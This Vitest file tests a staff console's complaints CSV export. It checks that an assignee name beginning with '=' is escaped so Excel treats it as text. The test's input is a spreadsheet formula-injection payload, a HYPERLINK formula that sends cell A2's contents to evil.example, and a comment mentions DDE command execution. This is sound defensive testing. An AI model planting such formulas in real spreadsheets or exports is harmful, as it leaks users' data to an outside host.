import { describe, expect, it } from "vitest";
import { createStaffUser } from "../../src/staff/users/create-staff-user";
import { consoleFixture } from "../helpers/console";
import { StaffBrowser, TEST_ITERATIONS } from "../helpers/staff";

/**
 * Session 8 review: `/staff/complaints.csv` is opened in Excel by supervisors. Its only free text is
 * the assignee's name, typed by whoever created the account; a name starting with `=` ran as a
 * formula (`=HYPERLINK(…)` fetches a URL when clicked, `=cmd|…` was DDE). Such a cell now starts
 * with an apostrophe, as the import's reject report already did.
 */
describe("the complaints export never hands Excel a formula", () => {
  it("an assignee named =HYPERLINK(…) is exported as text", async () => {
    const f = await consoleFixture();
    const name = '=HYPERLINK("http://evil.example/?x="&A2,"ver")';
    const odd = await createStaffUser({ db: f.deps.db, now: () => Date.now(), passwordIterations: TEST_ITERATIONS }, { email: "raro@orienta.test", role: "quality_agent", password: "pw-raro-123456", name });
    await f.complaints.assign({ code: f.reclamo.code, assigneeId: odd.id, actor: "staff:test" });
    const supervisor = new StaffBrowser(f.app);
    await supervisor.login(f.staff.supervisor.email, f.staff.supervisor.password);
    const csv = await (await supervisor.get("/staff/complaints.csv?status=all")).text();
    const row = csv.split("\n").find((l) => l.startsWith(f.reclamo.code))!;
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A2,""ver"")"`);
    // dates and codes are untouched
    expect(row).toMatch(/,\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}-05:00,/);
  });
});
